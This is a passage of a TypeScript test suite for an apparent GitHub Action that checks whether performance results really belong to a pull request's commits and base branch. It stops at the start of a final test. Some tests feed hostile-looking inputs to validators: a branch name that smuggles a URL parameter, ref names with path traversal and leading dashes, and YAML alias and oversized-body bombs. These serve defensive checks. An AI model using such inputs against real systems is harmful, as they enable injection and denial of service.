import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { test } from 'node:test'
import { compare } from '../../src/compare/compare.ts'
import type { EventPayload, WorkflowRun } from '../../src/github/event.ts'
import type { Inputs } from '../../src/github/inputs.ts'
import { workspace } from '../../src/github/job.ts'
import { judge } from '../../src/judge/judge.ts'
import { report } from '../../src/report/report.ts'
import type { Results } from '../../src/results/results.ts'
import { version } from '../../src/version.ts'
import { gated, simulate } from '../compare/results.ts'
import { knowing, pull } from '../github/pulls.ts'
import { scenario } from '../measure/servers.ts'
import { asked, base, github, known, merge, old, sha } from './stand-in.ts'

const { findPullRequest, pullRequestOf, refreshed } = await import('../../src/github/pull-request.ts')
const { expectedCommits } = await import('../../src/github/event.ts')
const { trust } = await import('../../src/trust/trust.ts')

const run = (more: Partial<WorkflowRun> = {}): WorkflowRun => ({
  event: 'pull_request',
  head_sha: sha,
  head_branch: 'feature',
  head_repository: { owner: { login: 'stranger' } },
  run_attempt: 2,
  created_at: '2026-06-01T00:00:00Z',
  ...more,
})
const why = async (of: WorkflowRun): Promise<string> => {
  const found = await findPullRequest(asked, of)
  assert.equal(found.pull, undefined)
  return found.pull === undefined ? found.why : ''
}

test('the pull request is the open one with owner, branch and commit of the run that measured', async () => {
  known.pulls.push(pull({ merge }), pull({ number: 8, owner: 'other' }), pull({ number: 9, branch: 'main' }))
  assert.deepEqual(await findPullRequest(asked, run()), {
    pull: {
      number: 7,
      head: sha,
      merges: [merge],
      base: 'main',
      measuredBase: undefined,
      baseSha: base,
      isCurrent: true,
      branch: 'feature',
      source: 'stranger/r',
      since: '2026-06-01T00:00:00Z',
    },
  })
  assert.deepEqual(github.requests, ['GET /repos/o/r/pulls'])
  const branch = 'feature/a&state=closed#ü'
  known.pulls.push(pull({ number: 10, branch }))
  assert.equal((await findPullRequest(asked, run({ head_branch: branch }))).pull?.number, 10)
})

test('a repository that was renamed while the run waited still has its pull request', async () => {
  known.pulls.push(pull({ merge }), pull({ number: 8, owner: 'other' }))
  const asNamed = knowing(known)
  github.more = (method, url) => {
    const text = JSON.stringify(asNamed(method, url))
    return text === undefined ? undefined : JSON.parse(text.replaceAll('"o/r"', '"owner/renamed"'))
  }
  assert.equal((await findPullRequest(asked, run())).pull?.number, 7)
  assert.match(await why(run({ head_branch: 'none' })), /no pull request has the branch and commit/)
})

test('a pull request into a fork, which GitHub lists beside it, is not taken for the one that has its number here', async () => {
  known.pulls.push(pull({ merge }))
  const into = (ref: string, id: number) => ({ number: 7, base: { ref, repo: { id } } })
  const { pull: found } = await findPullRequest(
    asked,
    run({ pull_requests: [into('theirs', 1), into('main', 1296269)] }),
  )
  assert.equal(found?.measuredBase, 'main')
  const alone = await findPullRequest(asked, run({ pull_requests: [into('theirs', 1)] }))
  assert.deepEqual([alone.pull?.number, alone.pull?.measuredBase], [7, undefined])
})

test('none, several, a moved head, a closed one: each is said, and none is chosen', async () => {
  assert.match(await why(run()), /no pull request has the branch and commit that were measured, `cccccccccc`/)
  known.pulls.push(pull({ state: 'closed' }))
  assert.match(await why(run()), /#7 is closed/)
  known.pulls.push(pull({ number: 8, sha: 'd'.repeat(40) }))
  assert.match(await why(run()), /#8 moved on, from `cccccccccc` to `dddddddddd`/)
  known.pulls.push(pull({ number: 9 }), pull({ number: 10, base: 'next' }))
  assert.match(await why(run()), /#9 and #10 have the same branch and commit/)
})

test('of two pull requests of one branch, it is the one whose merge was measured', async () => {
  const [first, second] = ['e', 'f'].map(letter => letter.repeat(40)) as [string, string]
  known.pulls.push(pull({ merge: first }), pull({ number: 8, base: 'next', merge: second }))
  const number = async (measured: string) => (await findPullRequest(asked, run(), measured)).pull?.number
  assert.deepEqual([await number(first), await number(second)], [7, 8])
  // Their branches have moved on since, and GitHub has other merges. The base that head was merged with decides.
  known.branches = { main: [base], next: [old] }
  for (const each of known.pulls) delete each.merge
  known.commits = { [first]: [base, sha], [second]: [old, sha] }
  assert.deepEqual([await number(first), await number(second)], [7, 8])
  for (const unknown of [sha, 'd'.repeat(40)]) assert.equal(await number(unknown), undefined)
})

test('a run that no pull request started, or of a deleted fork, has none; an API that does not respond is not a reason to guess', async () => {
  known.pulls.push(pull())
  assert.match(await why(run({ event: 'push' })), /was started by `push`/)
  assert.match(await why(run({ head_branch: null })), /names no branch/)
  assert.match(await why(run({ head_repository: null })), /the repository of the pull request is gone/)
  github.fault = () => ({ status: 403, message: 'Resource not accessible by integration' })
  assert.match(await why(run()), /could not be looked up \(Resource not accessible/)
})

test("a pull request's own event names it", () => {
  const payload: EventPayload = { pull_request: { number: 3, head: { sha }, base: { ref: 'main' } } }
  const from = (ref: string) => pullRequestOf(payload, { sha: merge, ref })
  assert.deepEqual(from('refs/pull/3/merge'), {
    number: 3,
    head: sha,
    merges: [merge],
    base: 'main',
    measuredBase: 'main',
    baseSha: undefined,
    branch: undefined,
    source: undefined,
    since: undefined,
  })
  for (const ref of ['refs/heads/main', 'refs/pull/31/merge', '']) assert.deepEqual(from(ref)!.merges, [], ref)
  assert.equal(pullRequestOf({}, { sha, ref: 'refs/heads/main' }), undefined)
})

const inputs = (more: Partial<Inputs> = {}) =>
  ({
    mode: 'report',
    failOn: 'verdict',
    configFrom: 'base',
    isolation: 'auto',
    pass: {},
    matrix: 'null',
    directory: '.',
    scenarios: [],
    out: '.',
    comment: 'always',
    ...more,
  }) as Inputs
const found = (more: object = {}) => ({
  found: {
    pull: {
      number: 7,
      head: sha,
      merges: [] as string[],
      base: 'main',
      baseSha: base,
      ...more,
    },
  },
})
/** Results whose head is that commit. */
function of(commit: string | undefined, results: Results = simulate({ effect: 1.15, blocks: 8 })): Results {
  const { commit: _, ...head } = results.variants[1]!
  results.variants[1] = { ...head, ...(commit === undefined ? {} : { commit }) }
  return results
}
const judged = (results: Results) =>
  judge(compare(results), results.config, { blocks: results.blocks.length, final: true })

test('results belong to a pull request by its commit, or by a merge commit whose second parent that is', async () => {
  known.commits[merge] = [base, sha]
  const unprepared = { ...of(undefined), blocks: [] }
  for (const results of [of(sha), of(merge), unprepared])
    assert.ok((await trust(results, found(), asked, inputs())).found.pull)
  assert.ok((await trust(of(merge), found({ merges: [merge] }), undefined, inputs())).found.pull)
})

test('results of another commit are refused: unknown, a plain one, a merge the other way round, a merge of three', async () => {
  const other = 'd'.repeat(40)
  const all: Record<string, string[]>[] = [
    {},
    { [other]: [sha] },
    { [other]: [sha, 'b'.repeat(40)] },
    { [other]: ['b'.repeat(40), sha, sha] },
  ]
  known.pulls.push(pull())
  for (const commits of all) {
    known.commits = commits
    await assert.rejects(trust(of(other), found(), asked, inputs()), {
      code: 'results-foreign',
      message: /are of commit `d+`, but #7 is at `c+`/,
    })
  }
  await assert.rejects(trust(of(other), found(), undefined, inputs()), { code: 'results-foreign' })
  await assert.rejects(trust(of(undefined), found(), asked, inputs()), { code: 'results-foreign' })
})

test('where it cannot be told whose the results are, they are posted nowhere', async () => {
  github.fault = () => ({ status: 403, message: 'Resource not accessible by integration' })
  const trusted = await trust(of(merge), found(), asked, inputs())
  assert.equal(trusted.found.pull, undefined)
  assert.match(trusted.results.notes.join(), /Not posted to #7: it is not known whether .* `contents: read`/)
})

/** What the report says about base, apart from thresholds; throws if the results are refused. */
const doubts = async (
  results: Results,
  more: object = {},
  asking: Partial<Inputs> = {},
  as: typeof asked | undefined = asked,
) =>
  (await trust(results, found(more), as, inputs(asking))).warnings
    .map(({ fact }) => fact)
    .filter(fact => !fact.startsWith('Thresholds'))

test('base is the first parent of the merge that was measured, or the merge base of the commit that was pushed', async () => {
  known.commits[merge] = [base, sha]
  known.pulls.push(pull())
  assert.deepEqual(await doubts(of(merge)), [])
  assert.deepEqual(await doubts(of(merge), { merges: [merge] }), [])
  assert.deepEqual(await doubts(of(sha)), [])
  assert.deepEqual(await doubts(of(sha), {}, {}, undefined), [])
  assert.deepEqual(await doubts(of(sha), { baseSha: old }), [], 'which may be older than what head has of the branch')
  known.branches.main!.push(sha)
  assert.deepEqual(await doubts(of(sha), { baseSha: base, isMerged: true }), [])
})

test('results with a different base are refused, for beside a slow one any head is fast', async () => {
  known.pulls.push(pull())
  const refuses = (results: Results, message: RegExp, more: object = {}) =>
    assert.rejects(trust(results, found(more), asked, inputs()), { code: 'results-foreign', message })
  known.branches.main = [old, base]
  known.commits[merge] = [old, sha]
  for (const merges of [[], [merge]])
    await refuses(of(merge), /base is `1111111111`, but #7 has to be compared with `2222222222`/, { merges })
  known.branches.release = [old]
  await refuses(of(sha), /base is `1111111111`, but #7 has to be compared with `2222222222`/, { base: 'release' })
  known.commits[merge] = [base, sha] // of a commit that is in no branch here: made by anyone, or for an earlier base branch
  known.branches = { main: [old] }
  for (const merges of [[], [merge]])
    await refuses(of(merge), /base is `1111111111`, which is not a commit of `main`/, { merges })
  known.branches = { main: [old], release: [base] }
  await refuses(of(merge), /base is `1111111111`, which is not a commit of `main`/, { merges: [merge] })
  const nameless = of(sha)
  delete nameless.variants[0]!.commit
  await refuses(nameless, /do not say which commit base is/)
})

test('where GitHub does not name the branch that was measured, the measured base counts for any branch that has it, and for no other', async () => {
  known.commits[merge] = [base, sha] // the merge into `main`, before the pull request was to go into `develop`
  known.branches = { main: [base], develop: [base, old], release: [old] }
  known.pulls.push(pull({ base: 'develop' }))
  const into = { base: 'develop', baseSha: old }
  assert.deepEqual(await doubts(of(merge), { ...into, merges: [merge] }), [])
  assert.deepEqual(await doubts(of(merge), into), ['Base is `1111111111`, which is older than the last update of #7.'])
  await assert.rejects(doubts(of(merge), { base: 'release', merges: [merge] }), { code: 'results-foreign' })
  await assert.rejects(doubts(of(merge), { ...into, measuredBase: 'main' }), { code: 'results-foreign' })
})

test('nobody vouches for a merge of anybody into a commit from before the last update, and its rules are those of that commit', async () => {
  known.branches.main = [base, old]
  known.commits[merge] = [base, sha]
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 7% }') }
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: /, connections: 8 }]') }
  known.pulls.push(pull())
  const { results, warnings, unanswered } = await trust(of(merge), found({ baseSha: old }), asked, inputs())
  assert.deepEqual(
    warnings.map(({ fact }) => fact),
    ['Base is `1111111111`, which is older than the last update of #7.'],
  )
  assert.equal(unanswered, true)
  assert.equal(results.config.scenarios[0]!.thresholds[0]!.worse, 0.07)
  assert.equal((await trust(of(merge), found(), asked, inputs())).unanswered, undefined)
})

test('in the queue, a branch that moved on after the run is no reason to doubt its base', async () => {
  known.branches.main = [base, old]
  const payload = { merge_group: { base_sha: base, head_sha: sha } }
  const expected = expectedCommits({ name: 'merge_group', payload }, sha)
  const trusted = await trust(of(sha), { found: { why: '' }, expected }, asked, inputs({ base: 'main' }))
  assert.equal(trusted.unanswered, undefined)
  assert.match(trusted.warnings[0]!.fact, /an earlier commit of `main`/)
  const behind = expectedCommits(
    { name: 'merge_group', payload: { merge_group: { base_sha: old, head_sha: sha } } },
    sha,
  )
  const after = await trust(of(sha), { found: { why: '' }, expected: behind }, asked, inputs({ base: 'main' }))
  assert.equal(after.unanswered, undefined, 'the group before it was merged meanwhile')
})

test('a branch other than the one of the pull request may move on after the run, and its base is not doubted', async () => {
  known.branches = { main: [old], stable: [base, merge] }
  const unanswered = async (more: object = {}) =>
    (await trust(of(sha), found({ baseSha: old, ...more }), asked, inputs({ base: 'stable' }))).unanswered
  assert.equal(await unanswered(), undefined)
  assert.equal(await unanswered({ base: 'stable' }), true)
  known.branches.stable = [base, old, merge]
  assert.equal(await unanswered(), true, 'from before the last update')
  known.branches.stable = [base, merge]
  assert.equal(await unanswered(), undefined)
  known.tags.stable = merge
  known.branches.stable.push(sha)
  assert.equal(await unanswered(), true, 'a tag does not move on')
})

test('where GitHub does not say which base is right, the report says so', async () => {
  github.fault = (_, path) => (path.includes('/compare/') ? { status: 403, message: 'no' } : undefined)
  assert.match(
    (await doubts(of(sha)))[0]!,
    /^It is not known whether base, `1111111111`, is the right one \(no; that needs `contents: read`\)/,
  )
})

test('where GitHub asks to wait, or does not know the token, no permission is said to be missing', async () => {
  const limit = 'API rate limit exceeded for installation ID 1.'
  const refused: [number, string, Record<string, string>, RegExp][] = [
    [429, limit, { 'retry-after': '3600' }, /\(API rate limit .*; GitHub asks to wait 3600 s\)/],
    [403, limit, { 'retry-after': '3600' }, /\(API rate limit .*; GitHub asks to wait 3600 s\)/],
    [401, 'Bad credentials', {}, /\(Bad credentials[^;]*\)/],
    [451, 'Repository access blocked', {}, /\(Repository access blocked[^;]*\)/],
  ]
  for (const [status, message, headers, says] of refused) {
    github.fault = (_, path) => (path.includes('/compare/') ? { status, message, headers } : undefined)
    const [about] = await doubts(of(sha))
    assert.match(about!, says)
    assert.doesNotMatch(about!, /contents: read/)
  }
})

/** What GitHub is asked about commits. */
const questions = { compare: /\/compare\//, parents: /\/git\/commits\//, name: /\/r\/commits\// }

/** Results that are not to be doubted, the questions that show it, and the event if it is not that of a pull request. */
const honest: [
  string,
  (keyof typeof questions)[],
  string,
  { merges?: string[]; base?: string; event?: EventPayload },
][] = [
  ["GitHub's own merge", ['compare', 'parents'], merge, { merges: [merge] }],
  ["anybody's merge", ['compare', 'parents'], merge, {}],
  ['a pushed commit', ['compare'], sha, {}],
  ['a branch that moved on', ['compare', 'name'], sha, { base: 'main' }],
  ['a tag', ['name'], sha, { base: 'v1.0.0' }],
  ['the last release', ['name'], sha, { base: 'last-release' }],
  ['a nightly run', ['compare'], sha, { event: {} }],
  ['a nightly run beside a branch', ['compare', 'name'], sha, { event: {}, base: 'main' }],
  ['the run of a merge', ['parents'], merge, { event: { workflow_run: run() } }],
]

for (const [what, asking, head, { merges = [], base: name, event }] of honest)
  for (const question of asking)
    test(`"not found" from everything that is asked with \`${question}\` is no reason to refuse ${what}`, async () => {
      known.pulls.push(pull())
      known.branches.main = [base, ...(name === 'main' ? [old] : []), ...(event === undefined ? [] : [sha])]
      known.tags['v1.0.0'] = base
      known.commits[merge] = [base, sha]
      const results = of(head)
      results.variants[0]!.source = 'v1.0.0'
      const expected =
        event && expectedCommits({ name: event.workflow_run ? 'workflow_run' : 'schedule', payload: event }, sha)
      const subject = event === undefined ? found({ merges }) : { found: { why: '' }, expected }
      const trusted = () => trust(results, subject, asked, inputs({ base: name }))
      assert.equal((await trusted()).unanswered, undefined)
      for (const status of [404, 422]) {
        github.fault = (_, path) => (questions[question].test(path) ? { status, message: 'Not Found' } : undefined)
        const { unanswered, warnings, results } = await trusted()
        assert.equal(unanswered, true)
        assert.match(
          [...results.notes, ...warnings.map(({ fact }) => fact)].join(),
          /not known whether .*Not Found.*; that needs/i,
        )
      }
    })

test('a base that was asked for is what its name stands for: a ref, or a tag for the last release', async () => {
  const released = (source = 'v1.0.0') => {
    const results = of(sha)
    results.variants[0]!.source = source
    return results
  }
  known.tags = { 'v1.0.0': base }
  known.pulls.push(pull())
  for (const name of ['v1.0.0', 'last-release']) assert.deepEqual(await doubts(released(), {}, { base: name }), [])
  const refuses = (results: Results, name: string) =>
    assert.rejects(trust(results, found(), asked, inputs({ base: name })), { code: 'results-foreign' })
  for (const tag of ['@acme/api@1.2.3', '_v1', 'api#1%20', 'v1,0', 'versión-1']) {
    known.tags = { [tag]: base }
    assert.deepEqual(await doubts(released(tag), {}, { base: 'last-release' }), [], tag)
  }
  known.tags = { 'v1.0.0': base, 'v1~1': base, 'v1@{1}': base, 'v1^': base }
  for (const source of ['main', 'v2', '../../x', '-x', 'v1~1', 'v1@{1}', 'v1^'])
    await refuses(released(source), 'last-release')
  known.tags = { 'v1.0.0': old }
  for (const name of ['v1.0.0', 'last-release']) await refuses(released(), name)
  known.branches.main = [base, old]
  for (const name of ['main', 'origin/main', 'refs/heads/main', 'refs/remotes/origin/main'])
    assert.deepEqual(await doubts(released(), {}, { base: name }), [
      'Base is `1111111111`, an earlier commit of `main`.',
    ])
  known.tags['last-release'] = base // a branch may have that name, too
  for (const name of ['origin/last-release', 'refs/heads/last-release'])
    assert.deepEqual(await doubts(released(), {}, { base: name }), [])
  const unanswered = async (baseSha: string) =>
    (await trust(released(), found({ baseSha }), asked, inputs({ base: 'main' }))).unanswered
  assert.deepEqual([await unanswered(base), await unanswered(old)], [undefined, true])
})

const into = (ref: string) => ({ pull_request: { number: 7, head: { sha }, base: { ref, sha: base } } })

test('a pull request that goes into a different branch than the one it was measured against is refused', async () => {
  await assert.rejects(trust(of(sha), found({ base: 'next', measuredBase: 'main' }), asked, inputs()), {
    code: 'results-foreign',
    message:
      'the base branch of #7 is now `next`, but it was measured against `main`: the run after that change decides',
  })
  known.pulls.push(pull({ base: 'next', baseSha: old }))
  const frozen = pullRequestOf(into('main'), { sha: merge, ref: 'refs/pull/7/merge' })
  const { pull: now } = await refreshed(asked, frozen!)
  assert.deepEqual([now?.base, now?.baseSha, now?.measuredBase], ['next', old, 'main'])
})

test('where GitHub does not say which branch a pull request goes into now, the report warns, and nobody vouches for base', async () => {
  const frozen = pullRequestOf(into('main'), { sha: merge, ref: 'refs/pull/7/merge' })
  const message = 'Resource not accessible by integration'
  github.fault = (_, path) => (path.endsWith('/pulls/7') ? { status: 403, message } : undefined)
  known.pulls.push(pull({ base: 'next', baseSha: old }))
  const { warnings, unanswered } = await trust(of(sha), { found: await refreshed(asked, frozen!) }, asked, inputs())
  assert.match(warnings[0]!.fact, /^It is not known whether #7 still goes into `main` \(Resource not accessible/)
  assert.equal(unanswered, true)
})

/** Warnings, except those about thresholds and load. */
const aboutBase = (warnings: { fact: string }[]) =>
  warnings.map(({ fact }) => fact).filter(fact => !/^Thresholds|a different load/.test(fact))

/** Results of an event without a pull request: 60 % slower, by thresholds of 9900 %. */
const queued = (head: string) =>
  of(
    head,
    simulate({
      effect: 1.6,
      blocks: 8,
      scenarios: [scenario({ thresholds: gated().map(each => ({ ...each, worse: 99 })) })],
      config: { gate: { evidence: 'proven', onInvalid: 'pass', onInconclusive: 'pass' } },
    }),
  )
const events: [string, EventPayload][] = [
  ['merge_group', { merge_group: { base_sha: base, head_sha: sha } }],
  ['push', { before: base, after: sha }],
  ['workflow_run', { workflow_run: run({ event: 'merge_group', head_branch: `gh-readonly-queue/main/pr-7-${base}` }) }],
]

test('in the merge queue and on push, commits are those of the event and thresholds those of its base', async () => {
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  for (const [name, payload] of events) {
    const expected = expectedCommits({ name, payload }, sha)
    const about = { found: { why: `\`${name}\` is not about a pull request` }, expected }
    const { results, warnings } = await trust(queued(sha), about, asked, inputs())
    assert.equal(judged(results).verdict, 'regressed', name)
    assert.equal(judged(results).exit, 1, name)
    assert.deepEqual(aboutBase(warnings), [], name)
    const refuses = (results: Results, message: RegExp) =>
      assert.rejects(trust(results, about, asked, inputs()), { code: 'results-foreign', message }, name)
    await refuses(queued('d'.repeat(40)), /the results are of commit `d+`, but .* is at `c+`/)
    const other = queued(sha)
    other.variants[0]!.commit = old
    await refuses(other, /base is `2+`, which is not the base of/)
    const nameless = queued(sha)
    for (const variant of nameless.variants) delete variant.commit
    await refuses(nameless, /do not say which commits/)
  }
})

test('a new or forced branch is compared with the parent of its last commit, other events with a commit of its history', async () => {
  known.commits[sha] = [base]
  const warnings = async (name: string, payload: EventPayload) =>
    aboutBase(
      (
        await trust(
          queued(sha),
          { found: { why: '' }, expected: expectedCommits({ name, payload }, sha) },
          asked,
          inputs(),
        )
      ).warnings,
    )
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  assert.deepEqual(await warnings('push', { before: '0'.repeat(40), after: sha }), [])
  assert.deepEqual(await warnings('push', { before: old, after: sha, forced: true }), [])
  await assert.rejects(warnings('push', { before: old, after: sha }), { code: 'results-foreign' })
  known.branches.main = [base, sha]
  assert.deepEqual(await warnings('schedule', {}), [])
  known.branches.main = [sha]
  await assert.rejects(warnings('schedule', {}), { code: 'results-foreign' })
  github.fault = () => ({ status: 403, message: 'no' })
  assert.match((await warnings('schedule', {}))[0]!, /It is not known whether base/)
})

test('a flipped baseline, other variants and settings for variants are refused', async () => {
  const slow = () => of(sha, simulate({ effect: 1.26, blocks: 8 }))
  const flipped = slow()
  for (const variant of flipped.variants) variant.baseline = !variant.baseline
  const renamed = slow()
  renamed.variants[0]!.name = 'old'
  const turned = slow()
  turned.variants.reverse()
  const more = slow()
  more.variants.push({ ...more.variants[1]!, name: 'more' })
  const excused = slow()
  excused.config.variants = [{ name: 'head', baseline: false, sameBody: false }]
  for (const results of [flipped, renamed, turned, more, excused])
    await assert.rejects(trust(results, found(), asked, inputs()), {
      code: 'results-unreadable',
      message: /the results do not compare base with head: their /,
    })
})

test('nothing measured, or a scenario of base left out, is never a pass', async () => {
  known.pulls.push(pull())
  const scenarios = '[{ name: home, path: / }, { name: gone, path: /gone }]'
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5%, on-invalid: pass, on-inconclusive: pass }', scenarios) }
  const empty = { ...of(undefined), blocks: [] }
  delete empty.variants[0]!.commit
  known.files.main = known.files[base]!
  const hollow = of(sha, simulate({ blocks: 8 }))
  for (const { scenarios } of hollow.blocks) for (const each of scenarios) each.slices = []
  for (const results of [empty, hollow, of(sha, simulate({ blocks: 8 }))]) {
    const trusted = await trust(results, found(), asked, inputs())
    const { verdict, exit } = judged(trusted.results)
    assert.deepEqual([verdict, exit], ['invalid', 3])
  }
})

const yaml = (gate: string, scenarios = '[{ name: home, path: /, connections: 4 }]', more = '') =>
  `server: { start: node server.mjs, ready-timeout: 10s }\nscenarios: ${scenarios}\ngate: ${gate}\n${more}\n`

test("thresholds are those of the base branch, whatever the pull request's run says they were", async () => {
  const loose = of(
    sha,
    simulate({
      effect: 1.15,
      blocks: 8,
      scenarios: [scenario({ thresholds: gated().map(each => ({ ...each, worse: 0.9 })) })],
      config: { gate: { evidence: 'proven', onInvalid: 'pass', onInconclusive: 'pass' } },
    }),
  )
  assert.equal(judged(loose).verdict, 'passed')
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5%, on-invalid: fail }') }
  const { results } = await trust(loose, found(), asked, inputs())
  assert.equal(judged(results).verdict, 'regressed')
  assert.deepEqual(results.config.gate, { evidence: 'likely', onInvalid: 'fail', onInconclusive: 'pass' })
  assert.match(report(results, judged(results)), /Thresholds come from `perf-gate.yml` in `main`/)
})

/** What is believed about a run that measured nothing, if GitHub lists these files between these ends. */
async function believed(
  files: string[],
  { between = `${base}...${sha}`, head = sha, more = {}, asking = {} }: Record<string, any> = {},
): Promise<{ unvouched?: string; unaffected?: string[] }> {
  known.differing = { [between]: files }
  known.files[between.split('...')[1]] = known.files.main!
  const nothing: Results = { ...of(head), blocks: [], ended: 'unaffected', unaffected: ['README.md'] }
  const { unvouched, results } = await trust(nothing, found(more), asked, inputs(asking))
  return { unvouched, unaffected: results.unaffected }
}

test('a job that measured nothing is believed only where GitHub lists no file that counts', async () => {
  known.pulls.push(pull())
  known.files.main = { 'perf-gate.yml': yaml('{}') }
  const files = ['README.md', 'docs/a.md']
  assert.deepEqual(await believed(files), { unvouched: undefined, unaffected: files }, 'as GitHub names them')
  await assert.rejects(believed(['README.md', 'server.js']), /although `server\.js` differs/)
  for (const name of ['perf-gate.yml', '.github/perf-gate.yaml', '.github/start.sh', 'server.mjs'])
    await assert.rejects(believed([name]), {
      message: new RegExp(`although \`${name.replaceAll('.', '\\.')}\` differs`),
    })
  assert.match((await believed([])).unvouched!, /GitHub does not say whether anything had to be/)
  const many = Array.from({ length: 400 }, (_, i) => `${i}.md`)
  assert.deepEqual((await believed(many)).unaffected, many)
  const payload = { ref: 'refs/heads/f', before: base, after: sha, forced: true } // of a branch that does not have `before` any more
  known.differing = { [`${base}...${sha}`]: files }
  known.branches.f = [old, sha]
  const pushed = { found: { why: 'none' }, expected: expectedCommits({ name: 'push', payload }, sha) }
  const nothing: Results = { ...of(sha), blocks: [], ended: 'unaffected', unaffected: ['README.md'] }
  github.requests.length = 0
  assert.deepEqual((await trust(nothing, pushed, asked, inputs())).results.unaffected, files)
  assert.doesNotMatch(github.requests.join(), /compare/, 'GitHub compares with where two branches met')
  known.files.main = {}
  assert.match(
    (await believed(files)).unvouched!,
    /GitHub does not say whether anything had to be/,
    'base says nothing of files',
  )
})

test('a merge that leaves out what the pull request changes hides nothing', async () => {
  known.pulls.push(pull())
  known.commits[merge] = [base, sha]
  known.files.main = { 'perf-gate.yml': yaml('{}') }
  const between = `main...${sha}`
  await assert.rejects(believed(['server.js'], { head: merge, between }), /although `server\.js` differs/)
  assert.deepEqual(await believed(['README.md'], { head: merge, between }), {
    unvouched: undefined,
    unaffected: ['README.md'],
  })
  const own = { head: merge, more: { merges: [merge] }, between: `${base}...${merge}` }
  assert.equal((await believed(['README.md'], own)).unvouched, undefined, 'GitHub’s own merge is what it lists')
  // With a chosen base, more lies between it and the pull request than the pull request changes.
  const chosen = { head: merge, between, asking: { base: 'main' } }
  assert.match((await believed(['README.md'], chosen)).unvouched!, /GitHub does not say whether anything had to be/)
})

test('a link or a submodule on either side counts, whatever it is called, and so does the workflow that measured', async () => {
  known.pulls.push(pull())
  known.files.main = { 'perf-gate.yml': yaml('{}', undefined, 'ignore: ["**"]') }
  for (const side of [base, sha])
    for (const mode of ['120000', '160000']) {
      known.modes = { [side]: { 'docs/a.md': mode } }
      await assert.rejects(believed(['docs/a.md']), /although `docs\/a\.md` differs/, `${mode} ${side}`)
      known.modes = { [base]: { 'docs/a.md': mode }, [sha]: { 'docs/a.md': mode } }
      assert.equal((await believed(['README.md'])).unvouched, undefined)
    }
  const event = join(mkdtempSync(join(tmpdir(), 'perf-gate-event-')), 'event.json')
  writeFileSync(event, JSON.stringify({ workflow_run: { path: '.github/workflows/perf.yml@main' } }))
  for (const [name, value] of [
    ['GITHUB_WORKFLOW_REF', 'o/r/.github/workflows/perf.yml@refs/pull/7/merge'],
    ['GITHUB_EVENT_PATH', event],
  ] as const) {
    process.env[name] = value
    const changed = believed(['.github/workflows/perf.yml'])
    await assert
      .rejects(changed, /although `\.github\/workflows\/perf\.yml` differs/)
      .finally(() => delete process.env[name])
  }
  rmSync(dirname(event), { recursive: true })
})

test('what the pull request changes in the config is read from its commit, whatever its run says', async () => {
  const hidden = { ...of(merge), proposal: { applies: true, changes: [{ key: 'seed', head: '@everyone' }] } }
  const change = async (more: object = { merges: [merge] }, results: Results = hidden, asking: Partial<Inputs> = {}) =>
    (await trust(results, found(more), asked, inputs(asking))).results.proposal
  known.pulls.push(pull())
  known.commits[merge] = [base, sha]
  assert.equal(await change(), undefined) // base has none yet
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  assert.deepEqual(await change(), { applies: false, changes: [], flaw: 'head removes perf-gate.yml' })
  known.files[merge] = known.files[base]!
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 7% }') } // it has moved on
  assert.equal(await change(), undefined)
  const loose = { 'perf-gate.yml': yaml('{ rps: 50% }') }
  known.files[merge] = loose
  const loosened = await change()
  assert.deepEqual([loosened!.applies, loosened!.changes], [false, [{ key: 'gate.rps', base: '5%', head: '50%' }]])
  assert.equal(loosened!.thresholds!.home![0]!.worse, 0.5)
  assert.equal((await change(undefined, hidden, { configFrom: 'head' }))!.applies, true)
  // A merge that GitHub does not know may have another tree. The commit that was pushed says what it wants.
  known.files[merge] = known.files[base]!
  known.files[sha] = loose
  assert.equal((await change({}))!.changes.length, 1)
  assert.equal((await change({}, { ...hidden, ...of(sha) }))!.changes.length, 1)
})

test('where GitHub does not show what head changes in the config, the report says so', async () => {
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  known.files[sha] = { 'perf-gate.yml': yaml('{ rps: 50% }') }
  known.pulls.push(pull())
  const unread = async () => {
    const { results, warnings } = await trust(of(sha), found(), asked, inputs())
    assert.equal(results.proposal, undefined)
    return warnings.at(-1)!.fact
  }
  const whole = github.more!
  github.more = (method, url) => {
    const isHead = url.pathname.includes('/contents/') && url.searchParams.get('ref') === sha
    const refused = { status: 403, data: { message: 'no', documentation_url: 'https://docs.github.com' } }
    return isHead ? { template: '/repos/{owner}/{repo}/contents/{path}', ...refused } : whole(method, url)
  }
  assert.match(
    await unread(),
    /^It is not known what head changes in the config: the config of `c+` could not be read \(no/,
  )
  github.more = whole
  known.files[sha] = {}
  known.modes[sha] = { 'perf-gate.yml': '120000' }
  assert.match(
    await unread(),
    /^It is not known what head changes in the config: `perf-gate.yml` of `c+` could not be read/,
  )
})

test('a config of head that cannot be read is said, and stops nothing', async () => {
  known.commits[merge] = [base, sha]
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  const flaw = async (text: string) => {
    known.files[merge] = { 'perf-gate.yml': text }
    return (await trust(of(merge), found({ merges: [merge] }), asked, inputs())).results.proposal?.flaw
  }
  assert.match((await flaw('x'.repeat(2 ** 20 + 1)))!, /perf-gate.yml has 1048577 bytes/)
  assert.match((await flaw('a: [1'))!, /not readable as YAML/)
  const values = Array.from({ length: 100 }, (_, i) => JSON.stringify(`${'v'.repeat(1900)}${i}`))
  const bomb = `{ name: home, path: /, method: POST, body: "${'{x}'.repeat(50_000)}", sweep: { x: [${values}] } }`
  assert.match((await flaw(yaml('{}', `[${bomb}]`)))!, /has \d+ characters of paths, headers and bodies/)
  const lists = `a: &a "${'v'.repeat(100_000)}"\nb: [${Array(15_000).fill('*a').join(', ')}]\n`
  assert.match((await flaw(lists))!, /more than \d+ characters of text/)
  github.fault = (_, path) => (path.includes('contents') ? { status: 403, message: 'no' } : undefined)
  assert.equal(await flaw(''), undefined) // base's cannot be read, either
})

test('the config is looked for where the inputs say, and in the usual places', async () => {
